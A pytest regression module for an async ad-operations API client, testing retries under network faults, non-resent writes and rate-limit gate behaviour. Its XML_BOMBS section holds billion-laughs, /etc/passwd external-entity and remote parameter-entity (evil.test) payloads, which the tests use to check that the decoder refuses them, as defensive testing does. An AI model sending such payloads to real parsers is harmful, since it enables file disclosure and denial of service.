"""What already held under faults when issue 16 was filed, kept as regression tests at a small scale (the 100,000-entity
versions are ``benchmarks/faults.py``). Judged by the sandboxes' records and the exceptions' types.

Held elsewhere already, so not repeated here:

* one slow read retried after its attempt bound, an endless body cut off: ``tests/faults/test_bounds.py``;
* an AppNexus POST not resent after a read timeout (its request count): ``tests/vendors/test_appnexus.py``;
* an Adnuntius upsert resent after a reset that reached nothing: ``tests/vendors/test_adnuntius.py``;
* XML entities refused by the codec (all three kinds) and a billion laughs through the in-process pipeline:
  ``tests/core/test_codecs_and_headers.py``, ``tests/core/test_client.py``;
* cancelled gate waiters take nothing and leave the schedule as if they had never queued: ``tests/core/test_gate.py``;
* Redis killed mid-run ("fail" raises QuotaStoreUnavailable, "local" keeps the rule): ``tests/shared/test_outage.py``,
  ``tests/shared/test_processes.py``.
"""

from __future__ import annotations

import random
from typing import Any

import anyio
import anyio.lowlevel
import pytest

from adops_async import (
    Adnuntius,
    AppNexus,
    Cooldown,
    DecodeError,
    Gate,
    Kind,
    MaxInFlight,
    OoyalaPulse,
    Priority,
    ReadWriteQuota,
    RetryPolicy,
    ScaledClock,
    TransportError,
    VirtualClock,
)
from adops_async.sandbox import Fault, serve
from adops_async.sandbox.adnuntius import AdnuntiusSandbox
from adops_async.sandbox.appnexus import AppNexusSandbox
from adops_async.sandbox.ooyala import OoyalaSandbox
from adops_async.vendors.appnexus import LineItem

pytestmark = pytest.mark.anyio

SPEED = 60
RATE_BODY = b'{"response":{"error_id":"SYSTEM","error":"rate limit exceeded","error_code":"RATE_EXCEEDED"}}'
BAD_GATEWAY = b"<html><body><h1>502 Bad Gateway</h1></body></html>"


def quick_retry() -> RetryPolicy:
    """Backoff in hundredths of a second: the counts are what is judged, not the waits."""
    return RetryPolicy(backoff=0.01, max_backoff=0.02, rng=random.Random(16))


def appnexus(url: str, **options: Any) -> AppNexus:
    return AppNexus(
        username="api-user", password="secret", base_url=url, clock=ScaledClock(SPEED), retry=quick_retry(), **options
    )


# -- an AppNexus pull under transient faults: exact, one extra request per fault ---------------------------------

PULL_FAULTS = {
    "a burst of 503s": Fault("status", status=503, count=3),
    "503s with Retry-After": Fault("status", status=503, count=2, headers={"Retry-After": "3"}),
    "502s from a proxy": Fault("status", status=502, count=2, body=BAD_GATEWAY, headers={"content-type": "text/html"}),
    "resets before the body": Fault("reset", count=2),
    "Content-Length larger than the body": Fault("truncate", count=2),
    "a body trickled past the timeout": Fault("slow", delay=0.3),
    "a 429 storm": Fault("status", status=429, count=5, body=RATE_BODY, headers={"Retry-After": "3"}),
}


@pytest.mark.parametrize("name", list(PULL_FAULTS))
async def test_an_appnexus_pull_is_exact_under_faults_with_one_extra_request_each(name: str) -> None:
    template = PULL_FAULTS[name]
    fault = Fault(**{**vars(template), "path": "/line-item", "headers": dict(template.headers)})
    app = AppNexusSandbox(speed=SPEED)
    ids = app.seed_line_items(2_000)
    seen: list[int | None] = []
    with serve(app) as url:
        async with appnexus(url, timeout=1.0) as an:
            with anyio.fail_after(20):
                async for item in an.line_items.list():
                    seen.append(item.id)
                    if len(seen) == 500:  # mid-walk, with the next pages already being fetched ahead
                        app.inject(fault)
    assert fault.count == 0  # every fault was taken
    assert len(seen) == 2_000
    assert sorted(i for i in seen if i is not None) == sorted(ids)
    assert app.count("GET", "/line-item") == 20 + template.count
    assert app.violations == []


# -- a write whose response is lost after the server applied it is never resent ----------------------------------

LOST_RESPONSES = ["truncate", "slow"]
"""Both reach the handler (the write is applied), then the response never arrives whole."""


def lost(kind: str, path: str) -> Fault:
    return Fault(kind, path=path, delay=0.3)


@pytest.mark.parametrize("kind", LOST_RESPONSES)
async def test_an_appnexus_create_whose_response_is_lost_is_not_resent(kind: str) -> None:
    app = AppNexusSandbox(speed=SPEED)
    advertiser = app.add("advertiser", name="Advertiser")["id"]
    with serve(app) as url:
        async with appnexus(url, timeout=0.5) as an:
            await an.advertisers.get(advertiser)  # log in first: the login is not what is faulted
            app.inject(lost(kind, "/line-item"))
            with pytest.raises(TransportError):
                await an.line_items.create(LineItem(name="once"), advertiser_id=advertiser)
    assert app.count("POST", "/line-item") == 1
    assert [item["name"] for item in app.data["line-item"].values()] == ["once"]


@pytest.mark.parametrize("kind", LOST_RESPONSES)
async def test_an_appending_appnexus_update_whose_response_is_lost_is_not_resent(kind: str) -> None:
    app = AppNexusSandbox(speed=SPEED)
    item = app.seed_line_items(1)[0]
    with serve(app) as url:
        async with appnexus(url, timeout=0.5) as an:
            await an.line_items.get(item)
            app.inject(lost(kind, "/line-item"))
            with pytest.raises(TransportError):
                await an.line_items.update(item, {"creatives": [{"id": 7}]}, append=True)
    assert app.count("PUT", "/line-item") == 1
    assert app.data["line-item"][item]["creatives"] == [{"id": 7}]  # appended once


@pytest.mark.parametrize("kind", LOST_RESPONSES)
async def test_an_ooyala_create_whose_response_is_lost_is_not_resent(kind: str) -> None:
    app = OoyalaSandbox(speed=SPEED)
    with serve(app) as url:
        async with OoyalaPulse(api_key="sandbox-key", base_url=url, timeout=0.5, retry=quick_retry()) as pulse:
            assert await pulse.campaigns.list().collect() == []
            app.inject(lost(kind, "/api/1.0/campaign"))
            with pytest.raises(TransportError):
                await pulse.campaigns.create({"name": "once", "priority": 5})
    assert app.count("POST", "/api/1.0/campaign") == 1
    assert [campaign["name"] for campaign in app.beans["campaign"].values()] == ["once"]


@pytest.mark.parametrize("kind", LOST_RESPONSES)
async def test_an_adnuntius_upsert_whose_response_is_lost_is_resent_with_the_same_id_and_stored_once(kind: str) -> None:
    app = AdnuntiusSandbox(speed=SPEED)
    with serve(app) as url:
        async with Adnuntius(
            context="network_1",
            username="user@example.com",
            password="secret",
            base_url=url,
            timeout=0.5,
            retry=quick_retry(),
        ) as adn:
            assert await adn.orders.list().collect() == []
            app.inject(lost(kind, "/api/v1/orders/"))
            order = await adn.orders.upsert({"name": "Order"})  # no id given: the client makes one
    posts = [r.path for r in app.records if r.method == "POST" and r.path.startswith("/api/v1/orders/")]
    assert posts == [f"/api/v1/orders/{order.id}"] * 2
    assert list(app.objects("orders")) == [order.id]


# -- XML entity expansion, through a vendor client on a real socket ----------------------------------------------

XML_BOMBS = {
    "billion laughs": b'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">]><campaigns><campaign><name>&c;</name></campaign></campaigns>',
    "an external entity": b'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b"<campaigns><campaign><name>&e;</name></campaign></campaigns>",
    "a parameter entity": b'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]>'
    b"<campaigns/>",
}


@pytest.mark.parametrize("name", list(XML_BOMBS))
async def test_xml_entities_from_the_vendor_are_refused_with_a_decode_error(name: str) -> None:
    app = OoyalaSandbox(speed=SPEED)
    with serve(app) as url:
        async with OoyalaPulse(api_key="sandbox-key", base_url=url, retry=quick_retry()) as pulse:
            headers = {"content-type": "application/xml"}
            app.inject(Fault("status", status=200, body=XML_BOMBS[name], headers=headers, path="/api/1.0/campaign"))
            with pytest.raises(DecodeError, match="entit"):
                await pulse.campaigns.list().collect()
    assert app.count("GET", "/api/1.0/campaign") == 1  # refused, not retried


# -- cancelled waiters leave the gate idle, and the next burst goes at the full rate -----------------------------


async def burst(gate: Gate, clock: VirtualClock, calls: int) -> list[float]:
    """``calls`` reads at once; when each was admitted, from the burst's start."""
    start = clock.now()
    admitted: list[float] = []

    async def read() -> None:
        async with gate.slot(Kind.READ):
            admitted.append(clock.now() - start)
            await anyio.lowlevel.checkpoint()

    async with anyio.create_task_group() as group:
        for _ in range(calls):
            group.start_soon(read)
    return sorted(admitted)


def appnexus_rule(clock: VirtualClock) -> Gate:
    return Gate(ReadWriteQuota(reads=100, writes=60, per=60), MaxInFlight(15), Cooldown(), clock=clock)


async def test_cancelling_40_percent_of_1000_waiters_leaves_the_gate_idle_and_the_next_burst_at_full_rate() -> None:
    rng = random.Random(16)
    admitted: dict[int, float] = {}
    async with VirtualClock().running() as clock:
        gate = appnexus_rule(clock)
        scopes = [anyio.CancelScope() for _ in range(1_000)]

        async def waiter(i: int) -> None:
            with scopes[i]:
                async with gate.slot(Kind.READ, rng.choice(list(Priority))):
                    admitted[i] = clock.now()
                    await anyio.lowlevel.checkpoint()

        async with anyio.create_task_group() as group:
            for i in range(1_000):
                group.start_soon(waiter, i)
            await clock.sleep_until(30)  # 100 are in, 900 are waiting
            for i in rng.sample([i for i in range(1_000) if i not in admitted], 400):
                scopes[i].cancel()
        stats = gate.stats()
        assert len(admitted) == 600
        assert max(admitted.values()) == pytest.approx(5 * 60.0)  # 600 reads at 100 a minute, as if 600 had queued
        assert stats.in_flight == 0
        assert sum(stats.waiters.values()) == 0
        assert stats.acquisitions == 600

        await clock.sleep_until(clock.now() + 60)  # the window empties
        after = await burst(gate, clock, 250)
        fresh = await burst(appnexus_rule(clock), clock, 250)
    assert after == fresh == [0.0] * 100 + [60.0] * 100 + [120.0] * 50
